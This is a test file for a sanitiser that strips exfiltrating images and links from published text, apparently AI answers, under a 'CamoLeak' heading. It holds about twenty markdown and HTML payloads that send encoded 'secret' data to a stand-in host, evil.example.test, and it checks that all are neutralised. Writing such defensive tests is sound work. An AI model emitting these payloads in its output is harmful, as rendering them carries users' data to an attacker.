/** CamoLeak, where an answer is published: what a page loads or a person clicks carries data out by its address. */

import assert from 'node:assert/strict';
import { it } from 'node:test';
import { sanitizeOutbound } from '../../src/law/text/outbound.ts';
import { findActing } from '../support/published-page.ts';

const leak = 'evil.example.test/c2VjcmV0.png';
const tries = [
  `![x](https://${leak})`,
  `![x](https://camo.example.test/a/${leak})`,
  `![x][r]\n\n[r]: https://${leak}`,
  `[r]: <https://${leak}> "t"\n\n![r] [r] [y][r]`,
  `<img src="https://${leak}">`,
  `<picture><source srcset=https://${leak}></picture>`,
  `<a href="https://${leak}"><b>click</b></a>`,
  `[click](https://${leak})`,
  `[click](//${leak})`,
  `[click](https://docs.example.test@${leak})`,
  `[click](https://docs.example.test.${leak})`,
  `[click](https://docs.example.test\\@${leak})`,
  `[click](java\u200bscript:fetch('https://${leak}'))`,
  `<https://${leak}>`,
  `https://${leak} www.${leak} ftp://${leak}`,
  `| a |\n|---|\n| ![x](https://${leak}) |`,
  `[^1]\n\n[^1]: ![x](https://${leak})`,
  `\`\`\`\ncode\n\`\`\`\n![x](https://${leak})`,
  `<!-- --!> --><img src=https://${leak}>`,
  `&#33;[x](https&colon;//${leak})`,
  `<svg><image href="https://${leak}"/></svg>`,
  `<details><summary>![x](https://${leak})</summary></details>`,
];

it('no image is loaded, and no link leads to a host off the list, however it is written', () => {
  const allowHosts = ['docs.example.test'];
  for (const each of [...tries, tries.join('\n\n'), tries.join(' ')]) {
    const { text } = sanitizeOutbound(each, { allowHosts });
    assert.deepEqual(findActing(text, allowHosts), [], `${each}\n----\n${text}`);
  }
});

it('what the list names stays a link', () => {
  const text = 'See [the page](https://docs.example.test/a).';
  assert.equal(sanitizeOutbound(text, { allowHosts: ['docs.example.test'] }).text, text);
});
